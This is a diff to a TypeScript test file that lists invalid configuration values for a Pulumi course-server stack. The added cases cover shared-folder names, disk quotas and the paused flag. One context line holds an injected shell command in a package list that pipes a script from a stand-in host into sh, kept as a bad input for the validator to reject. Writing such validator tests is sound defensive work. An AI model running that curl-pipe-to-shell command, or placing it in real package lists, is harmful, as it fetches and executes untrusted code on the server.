@@ -61,6 +61,13 @@ export const badCases: BadCase[] = [
     { what: "a shell command as a course package", raw: { ...github, coursePackages: '["numpy; curl evil.example | sh"]' }, key: "coursePackages", says: "expected pip requirements such as numpy==2.1.3" },
     { what: "a private key as an admin SSH key", raw: { ...github, adminSshKeys: '["-----BEGIN OPENSSH PRIVATE KEY-----"]' }, key: "adminSshKeys", says: "expected OpenSSH public keys" },
     { what: "a plain-http ACME directory", raw: { ...github, acmeDirectoryUrl: "http://acme.example.edu/directory" }, key: "acmeDirectoryUrl", says: "expected an https URL for the ACME directory" },
+    { what: "a shared data folder with a slash", raw: { ...github, sharedData: "data/week1" }, key: "sharedData", says: 'sharedData: got "data/week1"; expected true, false or a folder name such as shared or datasets (letters, digits, . _ -, not starting with a dot, no /). Fix: pulumi config set sharedData true' },
+    { what: "a hidden shared data folder", raw: { ...github, sharedData: ".data" }, key: "sharedData", says: "expected true, false or a folder name" },
+    { what: "a shared data folder named as the course", raw: { ...github, sharedData: "course" }, key: "sharedData", says: "sharedData: got \"course\"; expected a name other than courseDirectory's course: both are folders in every student's home. Fix: pulumi config set sharedData datasets" },
+    { what: "a fractional disk quota", raw: { ...github, diskQuotaGb: "2.5" }, key: "diskQuotaGb", says: 'diskQuotaGb: got "2.5"; expected a whole number of GiB. Fix: pulumi config set diskQuotaGb 5' },
+    { what: "a zero disk quota", raw: { ...github, diskQuotaGb: "0" }, key: "diskQuotaGb", says: "expected at least 1 GiB" },
+    { what: "a disk quota larger than the volume", raw: { ...github, diskQuotaGb: "50" }, key: "diskQuotaGb", says: "diskQuotaGb: got \"50\"; expected at most volumeSizeGb (20 GiB): a student cannot use more than the whole volume" },
+    { what: "yes for paused", raw: { ...github, paused: "yes" }, key: "paused", says: 'paused: got "yes"; expected true or false. Fix: pulumi config set paused true' },
     { what: "a mistyped key", raw: { ...github, allowedUser: '["ada"]' }, key: "allowedUser", says: "allowedUser: is not a setting of this stack (did you mean allowedUsers?). Fix: pulumi config rm allowedUser" },
 ];
 
